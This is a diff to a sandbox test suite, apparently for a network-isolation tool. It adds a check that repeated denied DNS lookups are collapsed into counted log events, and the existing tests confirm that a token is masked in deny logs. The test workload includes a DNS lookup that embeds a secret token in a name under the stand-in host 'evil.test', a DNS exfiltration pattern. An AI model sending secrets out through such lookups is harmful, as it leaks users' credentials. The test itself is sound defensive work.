@@ -367,6 +367,9 @@ attempt("tcp-host-loopback", lambda: socket.create_connection(("127.0.0.1", {tcp
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"ping", ("127.0.0.1", {udp_port})); print("udp sent")
 attempt("dns-undeclared", lambda: socket.getaddrinfo("exfil-{TOKEN}.evil.test", 443))
 attempt("dns-declared", lambda: socket.getaddrinfo("api.test", 443))
+# A workload looping on a lookup: one deny event per name per window, the queries counted.
+for _ in range(25):
+    attempt("dns-loop", lambda: socket.getaddrinfo("loop.evil.test", 443))
 # A loopback address sluice never handed out: in the clear without a Host, and TLS without a
 # server name. Neither names anything; nothing is dialled.
 c = socket.create_connection(("127.0.0.2", {tcp_port}), timeout=3)
@@ -413,6 +416,22 @@ except OSError as e:
     // The name asked for held the token: the deny event holds its placeholder.
     assert!(!log.contains(TOKEN), "{log}");
     assert!(log.contains("exfil-SLUICE_API_TOKEN_"), "{log}");
+    // Twenty-five lookups (each an A and an AAAA query at least): the first recorded at
+    // once, the rest counted into the event written when the resolver stopped.
+    let looped: Vec<u64> = log
+        .lines()
+        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
+        .filter(|e| e["event"] == "deny" && e["host"] == "loop.evil.test")
+        .map(|e| e["count"].as_u64().unwrap_or(1))
+        .collect();
+    assert!(
+        (1..=3).contains(&looped.len()),
+        "one event per window, not one per query: {looped:?}"
+    );
+    assert!(
+        looped.iter().sum::<u64>() >= 25,
+        "every query counted: {looped:?}"
+    );
 }
 
 #[test]
